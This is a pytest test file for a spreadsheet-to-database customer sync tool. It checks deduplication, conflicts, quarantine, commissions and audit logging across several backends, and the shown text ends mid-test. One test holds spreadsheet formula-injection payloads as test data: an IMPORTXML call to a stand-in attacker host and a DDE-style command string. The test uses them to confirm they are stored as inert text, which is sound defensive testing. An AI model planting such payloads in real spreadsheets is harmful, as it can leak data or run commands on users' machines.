"""The cycle, scenario by scenario (the seed's Ali, Sara and Ahmed), on every backend.

Each scenario runs on the in-memory sheets with SQLite and with PostgreSQL, on .xlsx
workbooks (files in a folder, patched as the .xlsx backend patches them) and on Google
spreadsheets in the loopback emulator, read and written by the Google backend through
gspread over HTTP (those two on SQLite: the database half is the same code).
"""

from __future__ import annotations

import datetime as dt
import gc
from collections import Counter
from typing import Any

import pytest
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from sync import collector, commission, marks, master_update, row_order, service
from sync import cycle as cycle_module
from sync.cells import cell_text
from sync.cycle import Cycle
from sync.dedupe import format_phone
from sync.marks import AgentMarks
from sync.model import (
    Agent,
    AuditEvent,
    Conflict,
    Customer,
    FollowUp,
    SheetRow,
    SheetState,
    SyncRun,
    Tracking,
    utcnow,
)
from sync.sheets import RowMove
from tests.emulated import GoogleHarness
from tests.world import Harness, World, XlsxHarness

AHMED_ALI = {
    "Name": "Ahmed Mohamed",
    "Phone": "+20 100 123 4567",
    "Email": "ahmed@example.com",
    "Desired university": "Cairo University",
    "Status": "In progress",
    "Notes": "Customer interested in scholarship",
}
AHMED_SARA = {
    "Name": "Ahmed Mohamed",
    "Phone": 1001234567,
    "Desired university": "Alexandria University",
    "Status": "negotiating",
    "Notes": "Customer also interested in medical program",
}


@pytest.fixture
def db_kind(setup: tuple[str, str]) -> str:
    """The database of the scenario's setup (tests/scenarios/conftest.py)."""
    return setup[1]


def test_each_setup_runs_where_it_says(world: World, setup: tuple[str, str], harness: Harness):
    from sync.backends.google import GoogleBackend
    from sync.backends.memory import MemoryBackend
    from sync.backends.xlsx import XlsxBackend

    world.type_rows("ali", [{"Name": "Ahmed Mohamed", "Phone": "01001234567"}])
    if isinstance(harness, GoogleHarness):
        harness.emulator.reset_counts()
    world.cycle()
    kind = {"memory": MemoryBackend, "xlsx": XlsxBackend, "google": GoogleBackend}[setup[0]]
    assert isinstance(world.backend, kind)
    assert world.engine.dialect.name == setup[1]
    if isinstance(harness, XlsxHarness):
        assert (harness.folder / "agents" / "ali.xlsx").stat().st_size > 0
    if isinstance(harness, GoogleHarness):
        assert harness.emulator.count("sheets.values.batchGet") >= 1
        assert harness.emulator.count("sheets.values.batchUpdate") >= 1


def open_conflicts(world: World, kind: str | None = None) -> list[Conflict]:
    with world.session() as s:
        stmt = select(Conflict).where(Conflict.status == "open")
        if kind:
            stmt = stmt.where(Conflict.kind == kind)
        return list(s.execute(stmt).scalars())


def test_same_phone_typed_by_two_agents_is_one_customer_with_two_private_trackings(world):
    world.type_rows("ali", [AHMED_ALI])
    world.type_rows("sara", [AHMED_SARA])
    report = world.cycle()

    assert report.customers_created == 1
    assert report.trackings_added == 2
    with world.session() as s:
        customer = s.execute(select(Customer)).scalar_one()
        assert customer.phone == "+201001234567"
        assert customer.number == f"CUS-{dt.date.today().year}-00001"
        statuses = {t.agent.key: (t.status, t.desired_university) for t in customer.trackings}
    assert statuses == {
        "ali": ("In progress", "Cairo University"),
        "sara": ("Negotiating", "Alexandria University"),
    }
    ali, sara = world.rows("ali")[0], world.rows("sara")[0]
    assert ali["Customer #"] == sara["Customer #"] == customer.number
    assert ali["Also tracked by"].startswith("Sara Ahmed (since ")
    assert sara["Also tracked by"].startswith("Ali Hassan (since ")
    assert ali["Desired university"] == "Cairo University" and ali["Status"] == "In progress"
    assert sara["Desired university"] == "Alexandria University"
    every_ali_cell = " ".join(" ".join(r.values()) for r in world.rows("ali"))
    assert "Alexandria" not in every_ali_cell and "Negotiating" not in every_ali_cell
    assert "medical" not in every_ali_cell


def test_a_cycle_after_a_cycle_writes_nothing(world):
    world.type_rows("ali", [AHMED_ALI, {"Name": "Fatima Ali", "Phone": "0111 222 3344"}])
    world.type_rows("sara", [AHMED_SARA])
    world.cycle()
    counts, audits = world.table_counts(), world.audit_count()
    version = {a: world.backend.fingerprint(world.source(a)) for a in ("ali", "sara")}

    again = world.cycle()

    assert again.cells_written == 0
    assert again.sources_read == 0
    assert world.table_counts() == counts
    assert world.audit_count() == audits
    assert {a: world.backend.fingerprint(world.source(a)) for a in ("ali", "sara")} == version


def test_empty_shared_field_is_filled_by_the_first_agent_and_shown_to_the_other(world):
    world.type_rows("ali", [{"Name": "Ahmed Mohamed", "Phone": "01001234567"}])
    world.type_rows("sara", [{"Phone": "0020 100 123 4567", "Email": "ahmed@example.com"}])
    world.cycle()

    assert world.rows("ali")[0]["Email"] == "ahmed@example.com"
    assert world.rows("sara")[0]["Name"] == "Ahmed Mohamed"


def test_a_pending_proposal_stays_open_while_the_agent_edits_other_rows(world):
    world.type_rows("ali", [AHMED_ALI])
    world.cycle()
    world.type_rows("sara", [{**AHMED_SARA, "Email": "ahmed.m@example.com"}])
    world.cycle()
    assert len(open_conflicts(world, "shared_field")) == 1

    # The row with the proposal is as the last cycle left it; another row is typed.
    world.type_rows("sara", [{"Name": "Mona", "Phone": "01009876543"}])
    report = world.cycle()
    assert report.conflicts_closed == 0
    assert len(open_conflicts(world, "shared_field")) == 1
    sara = world.rows("sara")
    assert sara[0]["Email"] == "ahmed.m@example.com"
    assert "awaits an admin" in sara[0]["Sync notes"]
    assert sara[1]["Customer #"].startswith("CUS-")


def test_changed_shared_field_becomes_one_conflict_and_stays_in_the_agents_cell(world):
    world.type_rows("ali", [AHMED_ALI])
    world.cycle()
    world.type_rows("sara", [{**AHMED_SARA, "Email": "ahmed.m@example.com"}])
    world.cycle()

    conflicts = open_conflicts(world, "shared_field")
    assert len(conflicts) == 1
    assert (conflicts[0].field, conflicts[0].current_value, conflicts[0].proposed_value) == (
        "email",
        "ahmed@example.com",
        "ahmed.m@example.com",
    )
    sara = world.rows("sara")[0]
    assert sara["Email"] == "ahmed.m@example.com"
    assert "awaits an admin" in sara["Sync notes"]
    assert world.rows("ali")[0]["Email"] == "ahmed@example.com"

    world.edit("sara", {"Email": "ahmed.m@example.com"}, {"Notes": "still waiting"})
    report = world.cycle()
    assert report.conflicts_opened == 0
    assert len(open_conflicts(world, "shared_field")) == 1

    world.edit("sara", {"Email": "ahmed.m@example.com"}, {"Email": "ahmed@example.com"})
    world.cycle()
    assert open_conflicts(world, "shared_field") == []
    assert "awaits" not in world.rows("sara")[0]["Sync notes"]


def test_removed_row_archives_only_that_agents_tracking(world):
    world.type_rows("ali", [AHMED_ALI])
    # Sara's tab keeps a row: a tab that comes back empty is quarantined whatever its size.
    world.type_rows("sara", [AHMED_SARA, {"Name": "Typo", "Phone": "12345"}])
    world.cycle()
    world.delete_rows("sara", {"Name": "Ahmed Mohamed"})
    report = world.cycle()

    assert report.trackings_archived == 1
    with world.session() as s:
        trackings = {t.agent.key: t.active for t in s.execute(select(Tracking)).scalars()}
        assert s.execute(select(Customer)).scalar_one() is not None
    assert trackings == {"ali": True, "sara": False}
    assert world.rows("ali")[0]["Also tracked by"] == ""


def test_mass_removal_is_quarantined_not_applied(engine, harness):
    world = World(engine, harness=harness, mass_removal_threshold=0.5, mass_removal_min_rows=3)
    world.type_rows("ali", [{"Name": f"C{i}", "Phone": f"0100123450{i}"} for i in range(6)])
    world.cycle()
    grid = world.grid("ali")
    world.backend.set_tab(world.source("ali"), "Customers", grid[:2])
    report = world.cycle()

    assert report.trackings_archived == 0
    assert report.agents_quarantined == 1
    quarantined = open_conflicts(world, "quarantine")
    assert [c.details["reason"] for c in quarantined] == ["mass_removal"]
    with world.session() as s:
        assert all(t.active for t in s.execute(select(Tracking)).scalars())

    world.backend.set_tab(world.source("ali"), "Customers", grid)
    world.cycle()
    assert open_conflicts(world, "quarantine") == []


@pytest.mark.parametrize("damage", ["missing_tab", "broken_header"])
def test_missing_tab_or_broken_header_is_quarantined_and_nothing_is_lost(world, damage):
    world.type_rows("ali", [AHMED_ALI])
    world.cycle()
    if damage == "missing_tab":
        world.backend.delete_tab(world.source("ali"), "Customers")
    else:
        grid = world.grid("ali")
        grid[0] = ["what", "ever"]
        world.backend.set_tab(world.source("ali"), "Customers", grid)
    report = world.cycle()

    assert report.agents_quarantined == 1
    assert [c.details["reason"] for c in open_conflicts(world, "quarantine")] == [damage]
    with world.session() as s:
        tracking = s.execute(select(Tracking)).scalar_one()
        assert tracking.active and tracking.desired_university == "Cairo University"


def test_invalid_phone_stays_in_the_sheet_with_a_note_until_fixed(world):
    world.type_rows("ali", [{"Name": "Typo", "Phone": "12345", "Notes": "keep me"}])
    world.cycle()

    row = world.rows("ali")[0]
    assert row["Phone"] == "12345" and row["Notes"] == "keep me"
    assert "not a valid phone number" in row["Sync notes"]
    assert row["Customer #"] == ""
    assert len(open_conflicts(world, "invalid_phone")) == 1
    assert world.count(Customer) == 0

    world.edit("ali", {"Name": "Typo"}, {"Phone": "0100 555 1234"})
    world.cycle()
    assert open_conflicts(world, "invalid_phone") == []
    row = world.rows("ali")[0]
    assert row["Customer #"].startswith("CUS-") and row["Sync notes"] == ""
    with world.session() as s:
        assert s.execute(select(Tracking.notes)).scalar_one() == "keep me"


def test_same_phone_twice_in_one_tab_syncs_one_row_and_flags_the_other(world):
    world.type_rows(
        "ali", [AHMED_ALI, {"Name": "Ahmed M.", "Phone": "01001234567", "Notes": "again"}]
    )
    world.cycle()

    rows = world.rows("ali")
    assert rows[0]["Customer #"].startswith("CUS-")
    assert "same phone as row 2" in rows[1]["Sync notes"]
    assert rows[1]["Notes"] == "again"
    conflict = open_conflicts(world, "duplicate_row")[0]
    assert conflict.details["values"]["notes"] == "again"
    assert world.count(Customer) == 1
    # The master says where, in words.
    grid = world.backend.get_tab(world.master, "Conflicts")
    details = [r[grid[0].index("Details")] for r in grid[1:] if r[1] == "duplicate_row"]
    assert details == ["row 3 of the Customers tab, the same phone as row 2"]


def test_customer_number_pasted_on_another_phone_is_not_trusted(world):
    world.type_rows("ali", [AHMED_ALI, {"Name": "Fatima Ali", "Phone": "0111 222 3344"}])
    world.cycle()
    ahmed_number = world.rows("ali")[0]["Customer #"]
    world.type_rows(
        "ali", [{"Customer #": ahmed_number, "Name": "Omar Hassan", "Phone": "0122 333 4455"}]
    )
    world.cycle()

    omar = world.rows("ali")[2]
    assert "belongs to another phone" in omar["Sync notes"]
    assert "+20 10 01234567" not in omar["Sync notes"]
    assert len(open_conflicts(world, "identity_mismatch")) == 1
    with world.session() as s:
        ahmed = s.execute(select(Customer).where(Customer.number == ahmed_number)).scalar_one()
        assert ahmed.name == "Ahmed Mohamed" and ahmed.phone == "+201001234567"
    assert world.count(Customer) == 2


def test_sorting_rows_never_rebinds_them(world):
    world.type_rows(
        "ali", [AHMED_ALI, {"Name": "Fatima Ali", "Phone": "0111 222 3344", "Notes": "f"}]
    )
    world.cycle()
    grid = world.grid("ali")
    world.backend.set_tab(world.source("ali"), "Customers", [grid[0], grid[2], grid[1]])
    world.edit("ali", {"Name": "Fatima Ali"}, {"Notes": "fatima's notes"})
    report = world.cycle()

    assert report.customers_created == 0 and report.trackings_archived == 0
    with world.session() as s:
        notes = dict(s.execute(select(Customer.name, Tracking.notes).join(Tracking)).all())
    assert notes == {
        "Ahmed Mohamed": "Customer interested in scholarship",
        "Fatima Ali": "fatima's notes",
    }


def test_write_back_never_overwrites_a_cell_typed_after_the_read(world):
    world.type_rows("ali", [{"Name": "Ahmed Mohamed", "Phone": "01001234567"}])
    world.type_rows("sara", [AHMED_SARA])

    def agent_types_meanwhile(source: str) -> None:
        if source == world.source("ali"):
            grid = world.backend.get_tab(source, "Customers")
            grid.insert(1, ["", "New Person", "0100 999 8888"])
            world.backend.set_tab(source, "Customers", grid)
            world.backend.before_write = None

    world.backend.before_write = agent_types_meanwhile
    world.cycle()

    rows = world.rows("ali")
    assert rows[0]["Name"] == "New Person" and rows[0]["Customer #"] == ""
    assert rows[1]["Name"] == "Ahmed Mohamed" and rows[1]["Customer #"].startswith("CUS-")
    assert rows[1]["Also tracked by"].startswith("Sara Ahmed")
    world.cycle()
    assert world.rows("ali")[0]["Customer #"].startswith("CUS-")
    assert world.count(Customer) == 2


def test_text_that_looks_like_a_formula_is_carried_as_text(world):
    payload = '=IMPORTXML("http://evil.example/x","//a")'
    world.type_rows(
        "ali", [{"Name": payload, "Phone": "01001234567", "Notes": "+cmd|' /C calc'!A0"}]
    )
    world.type_rows("sara", [{"Phone": "01001234567", "Notes": "@SUM(1+1)"}])
    world.cycle()

    assert world.rows("sara")[0]["Name"] == payload
    master = world.backend.get_tab(world.master, "Customers")
    assert payload in [cell_text(c) for c in master[1]]
    sara_cells = [c for row in world.grid("sara") for c in row]
    assert "+cmd|' /C calc'!A0" not in sara_cells


def test_a_master_tab_that_is_missing_is_set_up_again_by_the_next_cycle(world):
    """An older sheetsync's master lacks a newer tab; an admin may delete one: the cycle
    sets it up as init would (and says so) instead of failing the master."""
    world.type_rows("ali", [AHMED_ALI])
    world.cycle()
    world.backend.delete_tab(world.master, "Sync log")
    report = world.cycle()
    assert not report.failures
    assert any("added tab Sync log" in warning for warning in report.warnings)
    assert len(world.backend.get_tab(world.master, "Sync log")) >= 2
    assert world.master_differences() == {}
    assert world.cycle().cells_written == 0


def test_follow_ups_get_numbers_and_stay_with_their_agent(world):
    world.type_rows("ali", [AHMED_ALI])
    world.type_rows("sara", [AHMED_SARA])
    world.type_rows(
        "ali",
        [
            {
                "Phone": "01001234567",
                "Date": "10/01/2026",
                "Type": "call",
                "Notes": "Called customer",
            }
        ],
        tab="Follow-ups",
    )
    world.type_rows(
        "sara",
        [
            {
                "Phone": "+201001234567",
                "Date": dt.date(2026, 1, 11),
                "Type": "Email",
                "Notes": "Sent medical program information",
            }
        ],
        tab="Follow-ups",
    )
    world.cycle()

    ali = world.rows("ali", "Follow-ups")
    assert len(ali) == 1 and ali[0]["Follow-up #"].startswith("FU-")
    assert ali[0]["Customer #"] == world.rows("ali")[0]["Customer #"]
    assert "medical" not in str(world.grid("ali", "Follow-ups"))
    with world.session() as s:
        follow_ups = {f.notes: (f.date, f.type) for f in s.execute(select(FollowUp)).scalars()}
    assert follow_ups["Called customer"] == (dt.date(2026, 1, 10), "Call")
    assert world.cycle().cells_written == 0


def test_an_edited_follow_up_is_found_through_its_own_tracking(world):
    """A follow-up typed over is matched to the follow-ups of the agent's trackings. Here
    Sara's tracking ids are not her customers' ids (Ali typed the first customers), so a
    lookup that mixed them up would take her follow-up for another one."""
    world.type_rows("ali", [AHMED_ALI, {"Name": "Mona", "Phone": "01112223334"}])
    world.cycle()
    world.type_rows("sara", [{"Name": "Omar", "Phone": "01223334445"}, AHMED_SARA])
    for agent, phone in (("ali", "01112223334"), ("sara", "01223334445"), ("sara", "01001234567")):
        world.type_rows(
            agent, [{"Phone": phone, "Type": "call", "Notes": f"{agent} {phone}"}], "Follow-ups"
        )
    world.cycle()
    with world.session() as s:
        before = {
            f.notes: (f.id, f.number, f.tracking_id) for f in s.execute(select(FollowUp)).scalars()
        }
        trackings = {t.id: t.customer_id for t in s.execute(select(Tracking)).scalars()}
    edited = before["sara 01001234567"][2]
    assert trackings[edited] != edited  # the case this test is about

    world.edit("sara", {"Notes": "sara 01001234567"}, {"Notes": "asked for the fees"}, "Follow-ups")
    report = world.cycle()

    assert not report.problems
    with world.session() as s:
        after = {
            f.notes: (f.id, f.number, f.tracking_id, f.active)
            for f in s.execute(select(FollowUp)).scalars()
        }
    assert after["asked for the fees"] == (*before["sara 01001234567"], True)
    assert len(after) == 3 and all(f[3] for f in after.values())
    assert [r["Notes"] for r in world.rows("sara", "Follow-ups")] == [
        "sara 01223334445",
        "asked for the fees",
    ]
    assert world.cycle().cells_written == 0


def test_unreadable_cell_is_noted_and_the_stored_value_kept(world):
    world.type_rows("ali", [{**AHMED_ALI, "Next follow-up": "15/01/2026"}])
    world.cycle()
    world.edit("ali", {"Name": "Ahmed Mohamed"}, {"Next follow-up": "31/31/2026"})
    report = world.cycle()

    assert any(
        p.startswith(f"{world.source('ali')}, tab Customers, row 2, column S (Next follow-up): ")
        and "31/31/2026" in p
        for p in report.problems
    ), report.problems

    row = world.rows("ali")[0]
    assert row["Next follow-up"] == "31/31/2026"
    assert "Next follow-up" in row["Sync notes"]
    with world.session() as s:
        assert s.execute(select(Tracking.next_follow_up)).scalar_one() == dt.date(2026, 1, 15)


def test_first_to_complete_marks_the_later_agent_lost_to_colleague(world):
    world.type_rows("ali", [AHMED_ALI])
    world.type_rows("sara", [AHMED_SARA])
    world.cycle()
    world.edit("ali", {"Name": "Ahmed Mohamed"}, {"Status": "Completed"})
    world.cycle()
    world.edit("sara", {"Name": "Ahmed Mohamed"}, {"Status": "Completed"})
    world.cycle()

    with world.session() as s:
        got = {
            t.agent.key: (t.commission_pct, t.lost_to_colleague)
            for t in s.execute(select(Tracking)).scalars()
        }
    assert got == {"ali": (100.0, False), "sara": (0.0, True)}
    assert "lost to colleague" in world.rows("sara")[0]["Sync notes"]
    assert world.rows("ali")[0]["Commission %"] == "100"


def test_completions_in_the_same_cycle_open_a_completion_race(world):
    world.type_rows("ali", [{**AHMED_ALI, "Status": "Completed"}])
    world.type_rows("sara", [{**AHMED_SARA, "Status": "Completed"}])
    world.cycle()

    assert len(open_conflicts(world, "completion_race")) == 1
    with world.session() as s:
        assert {t.commission_pct for t in s.execute(select(Tracking)).scalars()} == {None}
        # waiting for the admin is not "unsettled": idle cycles don't settle it again
        assert commission.unsettled(s, "first_to_complete") == set()


def test_a_tracking_created_elsewhere_is_appended_to_the_agents_sheet(world):
    world.type_rows("ali", [AHMED_ALI])
    world.cycle()
    with world.session() as s, s.begin():
        customer = s.execute(select(Customer)).scalar_one()
        sara = s.execute(select(Agent).where(Agent.key == "sara")).scalar_one()
        s.add(Tracking(customer_id=customer.id, agent_id=sara.id, status="Prospect"))
    world.cycle()

    rows = world.rows("sara")
    assert [(r["Name"], r["Status"]) for r in rows] == [("Ahmed Mohamed", "Prospect")]
    assert rows[0]["Phone"] == format_phone("+201001234567")
    assert world.cycle().cells_written == 0


def test_every_change_writes_an_audit_event(world):
    world.type_rows("ali", [AHMED_ALI])
    world.cycle()
    world.edit("ali", {"Name": "Ahmed Mohamed"}, {"Status": "Negotiating"})
    world.cycle()

    with world.session() as s:
        events = [
            (e.action, e.before, e.after)
            for e in s.execute(select(AuditEvent).order_by(AuditEvent.id)).scalars()
        ]
    actions = [a for a, _, _ in events]
    assert actions[:2] == ["create_customer", "add_tracking"]
    assert ("update_tracking", {"status": "In progress"}, {"status": "Negotiating"}) in events


def test_lookup_shows_who_tracks_since_when_and_no_tracking(world):
    world.type_rows("ali", [AHMED_ALI])
    world.type_rows("sara", [AHMED_SARA])
    world.cycle()

    found = service.lookup(world.engine, "٠١٠٠١٢٣٤٥٦٧", "EG")
    assert found.customer is not None and found.customer["Name"] == "Ahmed Mohamed"
    assert [t["agent"] for t in found.tracked_by] == ["Ali Hassan", "Sara Ahmed"]
    assert "Cairo" not in str(found) and "Negotiating" not in str(found)
    assert service.lookup(world.engine, "0100 000 0000", "EG").customer is None


def test_master_has_every_customer_once_and_every_tracking(world):
    world.type_rows("ali", [AHMED_ALI, {"Name": "Fatima Ali", "Phone": "0111 222 3344"}])
    world.type_rows("sara", [AHMED_SARA])
    world.cycle()

    customers = world.backend.get_tab(world.master, "Customers")
    tracking = world.backend.get_tab(world.master, "Tracking")
    assert [r[0] for r in customers[1:]] == sorted(r[0] for r in customers[1:])
    assert len(customers) == 3 and len(tracking) == 4
    names = sorted(cell_text(r[3]) for r in tracking[1:])
    assert names == ["Ali Hassan", "Ali Hassan", "Sara Ahmed"]


def test_possible_but_invalid_number_is_taken_with_a_warning(world):
    world.type_rows("ali", [{"Name": "Odd Number", "Phone": "+20 123 456 789"}])
    world.cycle()

    row = world.rows("ali")[0]
    assert row["Customer #"].startswith("CUS-")
    assert "not a valid number for Egypt" in row["Sync notes"]
    with world.session() as s:
        assert s.execute(select(Customer.phone)).scalar_one() == "+20123456789"


def test_stopping_at_an_agent_boundary_leaves_the_rest_for_the_next_cycle(world):
    world.type_rows("ali", [AHMED_ALI])
    world.type_rows("sara", [AHMED_SARA])
    calls = iter([False, True])
    from sync.cycle import Cycle

    report = Cycle(
        world.config, world.engine, world.backend, should_stop=lambda: next(calls, True)
    ).run()
    assert report.stopped and report.trackings_added == 1
    assert world.rows("sara")[0]["Customer #"] == ""

    world.cycle()
    assert world.rows("sara")[0]["Customer #"] == world.rows("ali")[0]["Customer #"] != ""
    with world.session() as s:
        assert len(list(s.execute(select(Tracking)).scalars())) == 2


def test_an_overwritten_master_cell_is_repaired_once_then_cycles_are_idle(world):
    world.type_rows("ali", [AHMED_ALI])
    world.cycle()
    world.cycle()
    grid = [list(row) for row in world.backend.get_tab(world.master, "Customers")]
    grid[1][11] = "typed over by someone"  # Tracked by: the sync owns it
    world.backend.set_tab(world.master, "Customers", grid)

    repair = world.cycle()
    settled = world.cycle()
    after = world.cycle()

    assert repair.cells_written >= 1
    assert world.backend.get_tab(world.master, "Customers")[1][11] != "typed over by someone"
    assert (settled.cells_written, settled.sources_read) == (0, 0)
    assert (after.cells_written, after.sources_read) == (0, 0)


def test_a_new_row_leaving_a_shared_field_blank_shows_it_without_a_clearing_note(world):
    world.type_rows("ali", [AHMED_ALI])
    world.type_rows("sara", [AHMED_SARA])  # no Email: not a clearing, she never saw one
    world.cycle()
    sara = world.rows("sara")[0]
    assert sara["Email"] == "ahmed@example.com"
    assert "clearing" not in sara["Sync notes"]

    world.edit("sara", {"Name": "Ahmed Mohamed"}, {"Email": ""})  # now she clears it
    world.cycle()
    sara = world.rows("sara")[0]
    assert sara["Email"] == "ahmed@example.com"
    assert "clearing it is not applied" in sara["Sync notes"]


def audit_change(
    s: Session, customer_id: int, actor: str = "admin", before: Any = None, after: Any = None
) -> None:
    """An audited change to a customer, as a cycle, an admin's command or another worker
    records it."""
    s.add(
        AuditEvent(
            actor=actor,
            action="update_customer",
            entity="customer",
            entity_id=customer_id,
            customer_id=customer_id,
            before=before or {},
            after=after or {},
        )
    )


def test_an_idle_cycle_renders_nothing_until_the_database_changes(world):
    world.type_rows("ali", [AHMED_ALI])
    world.type_rows("sara", [AHMED_SARA])
    world.cycle()

    idle = world.cycle()
    assert (idle.cells_written, idle.views_rendered, idle.master_rendered) == (0, 0, 0)

    # An audited change made elsewhere (an admin's command, another worker) is shown next cycle.
    with world.session() as s, s.begin():
        ahmed = s.execute(select(Customer)).scalar_one()
        audit_change(s, ahmed.id, before={"city": ""}, after={"city": "Giza"})
        ahmed.city = "Giza"
    shown = world.cycle()
    assert shown.views_rendered == 2 and shown.master_rendered >= 1  # Ali's, Sara's, the master
    assert [r["City/Region"] for r in (world.rows("ali")[0], world.rows("sara")[0])] == [
        "Giza",
        "Giza",
    ]
    master = world.backend.get_tab(world.master, "Customers")
    assert master[1][master[0].index("City/Region")] == "Giza"
    assert world.cycle().views_rendered == 0


def test_a_customer_a_tool_inserted_without_an_audit_event_is_shown_next_cycle(world):
    """The master's marker counts the rows: a customer another tool put in the database,
    with no audit event, still makes the next cycle show it."""
    world.type_rows("ali", [AHMED_ALI])
    world.cycle()
    assert world.cycle().cells_written == 0
    with world.session() as s, s.begin():
        s.add(Customer(number="CUS-2026-09999", phone="+201001112233", name="Put In By A Tool"))
    assert world.cycle().master_cells_written > 0
    master = world.backend.get_tab(world.master, "Customers")
    assert "CUS-2026-09999" in [row[master[0].index("Customer #")] for row in master[1:]]
    assert world.cycle().cells_written == 0


def test_a_change_the_master_does_not_show_is_checked_once(world):
    """A change that moves what the master is rendered from but nothing it shows (here a
    conflict's details, which a tool rewrote) is checked by one whole render; the cycles
    after it are idle again, the master not rendered (each rendered it whole before)."""
    world.type_rows("ali", [AHMED_ALI])
    world.cycle()
    world.type_rows("sara", [{**AHMED_SARA, "Email": "ahmed.m@example.com"}])
    world.cycle()
    with world.session() as s, s.begin():
        conflict = s.execute(select(Conflict).where(Conflict.status == "open")).scalars().first()
        assert conflict is not None
        conflict.details = {**(conflict.details or {}), "seen_by": "a tool"}
    first = world.cycle()
    assert (first.cells_written, first.views_rendered) == (0, 0)
    again = world.cycle()
    assert (again.master_rendered, again.cells_written, again.views_rendered) == (0, 0, 0)


def test_an_idle_cycle_looks_at_each_sheet_once(world, monkeypatch):
    """An idle cycle's cost is a look at each sheet: the master's (a big team's workbook is
    read and hashed for it) is taken once, though two phases ask whether it changed."""
    world.type_rows("ali", [AHMED_ALI])
    world.type_rows("sara", [AHMED_SARA])
    world.cycle()
    looked: Counter[str] = Counter()
    fingerprint = world.backend.fingerprint

    def counted(source):
        looked[source] += 1
        return fingerprint(source)

    monkeypatch.setattr(world.backend, "fingerprint", counted)
    assert world.cycle().cells_written == 0
    assert looked == Counter({world.source("ali"): 1, world.source("sara"): 1, world.master: 1})


def test_a_run_left_running_by_a_killed_cycle_is_marked_interrupted(world):
    world.type_rows("ali", [AHMED_ALI])
    with world.session() as s, s.begin():
        old = SyncRun(started_at=utcnow() - dt.timedelta(days=2))  # killed two days ago
        recent = SyncRun(started_at=utcnow())  # maybe another worker's cycle in flight
        s.add_all([old, recent])
    world.cycle()  # not alone (PostgreSQL workers): only the day-old run is certainly dead
    with world.session() as s:
        assert [r.status for r in s.scalars(select(SyncRun).order_by(SyncRun.id))][:2] == [
            "interrupted",
            "running",
        ]

    world.type_rows("sara", [AHMED_SARA])
    Cycle(world.config, world.engine, world.backend, alone=True).run()  # the SQLite lock held
    with world.session() as s:
        statuses = [r.status for r in s.scalars(select(SyncRun).order_by(SyncRun.id))]
    assert statuses[:2] == ["interrupted", "interrupted"] and "running" not in statuses


@pytest.mark.parametrize("together", [True, False], ids=["all agents at once", "agent by agent"])
def test_an_edit_marks_dirty_only_the_sheets_that_show_the_changed_customer(
    world, monkeypatch, together
):
    """A change to a customer re-renders the sheets of the agents tracking it, no other
    (asked for all agents in one query, or agent by agent when that would be too many)."""
    if not together:
        monkeypatch.setattr(marks, "BATCH_LIMIT", 0)
    omar = {"Name": "Omar Said", "Phone": "0111 222 3344", "Status": "Prospect"}
    world.type_rows("ali", [AHMED_ALI, omar])
    world.type_rows("sara", [AHMED_SARA])
    world.cycle()

    def sara_dirty() -> set[int] | None:
        with world.session() as s:
            sara = s.execute(select(Agent).where(Agent.key == "sara")).scalar_one()
            stored = s.execute(
                select(SheetState.marker).where(
                    SheetState.source == world.source("sara"), SheetState.tab == "Customers"
                )
            ).scalar_one()
            return AgentMarks.load(s).dirty_customers(s, sara.id, stored)

    def sara_is_dirty() -> bool:
        return sara_dirty() != set()

    def audit_a_change(actor: str, name: str) -> int:
        """An audited change to the named customer, as a cycle or an admin records it."""
        with world.session() as s, s.begin():
            customer_id = s.execute(select(Customer.id).where(Customer.name == name)).scalar_one()
            audit_change(s, customer_id, actor)
        return customer_id

    assert not sara_is_dirty()
    world.edit("ali", {"Name": "Omar Said"}, {"Status": "Contacted", "Email": "omar@example.com"})
    audit_a_change("agent:ali", "Omar Said")  # what the cycle's ingest of Ali's sheet does
    assert not sara_is_dirty()  # Omar is Ali's alone
    world.cycle()
    assert world.rows("ali")[1]["Status"] == "Contacted"
    assert not sara_is_dirty()

    ahmed_id = audit_a_change("admin", "Ahmed Mohamed")
    assert sara_dirty() == {ahmed_id}  # Ahmed is on her sheet too: his row alone
    world.cycle()
    assert not sara_is_dirty()


def test_the_master_is_brought_up_to_date_row_by_row_without_reading_it(world, monkeypatch):
    """A cycle after agents' edits renders only the changed customers' master rows and
    sets their cells without reading the master, and the master is what a whole render
    gives; an admin's edit of the master makes the cycle read it and diff it whole."""
    world.type_rows("ali", [AHMED_ALI])
    world.type_rows("sara", [AHMED_SARA, {"Name": "Mona Said", "Phone": "01112223344"}])
    world.cycle()
    assert world.master_differences() == {}
    calls: list[tuple[str, str]] = []
    backend = world.backend
    read, set_cells = backend.read, backend.set_cells

    def counted_read(source, *args, **kwargs):
        calls.append(("read", source))
        return read(source, *args, **kwargs)

    def counted_set(source, *args, **kwargs):
        calls.append(("set", source))
        return set_cells(source, *args, **kwargs)

    monkeypatch.setattr(backend, "read", counted_read)
    monkeypatch.setattr(backend, "set_cells", counted_set)

    def master_calls() -> tuple[int, int]:
        return calls.count(("read", world.master)), calls.count(("set", world.master))

    world.edit("ali", {"Name": "Ahmed Mohamed"}, {"Status": "Negotiating", "Notes": "call Sunday"})
    reads, sets = master_calls()
    report = world.cycle()
    assert master_calls() == (reads, sets + 1)  # the master is not read, only set
    assert report.cells_written > 0
    assert world.master_differences() == {}
    tracking = world.backend.get_tab(world.master, "Tracking")
    assert {"Negotiating", "call Sunday"} <= {cell_text(v) for row in tracking for v in row}

    # A new customer is a new row at the end of Customers and Tracking: still row by row.
    world.type_rows("ali", [{"Name": "Omar Nabil", "Phone": "01223334455"}])
    reads, sets = master_calls()
    world.cycle()
    assert master_calls() == (reads, sets + 1)
    assert world.master_differences() == {}
    assert "Omar Nabil" in [
        cell_text(r[1]) for r in world.backend.get_tab(world.master, "Customers")
    ]

    # The admin typed in the master: it is read (the edit applied) and diffed whole.
    grid = world.backend.get_tab(world.master, "Customers")
    email = [cell_text(h) for h in grid[0]].index("Email")
    grid[1].extend([None] * (email + 1 - len(grid[1])))
    grid[1][email] = "admin@example.com"
    world.backend.set_tab(world.master, "Customers", grid)
    reads, _ = master_calls()
    world.cycle()
    assert master_calls()[0] > reads
    assert world.master_differences() == {}
    assert world.cycle().cells_written == 0


def test_the_conflicts_tab_is_rendered_again_only_when_what_it_shows_moved(world, monkeypatch):
    """An edit that opens, closes and changes no conflict keeps the master's Conflicts tab
    as written: not rendered again (at 50 agents it lists 6,000 conflicts), no cell of it
    set. An edit that changes what a conflict proposes has it rendered again. Either way
    the master is what a whole render gives."""
    world.type_rows(
        "ali",
        [
            {"Name": "P", "Phone": "01001240001", "Email": "ali@example.com"},
            {"Name": "Q", "Phone": "01001240002", "Status": "Prospect"},
        ],
    )
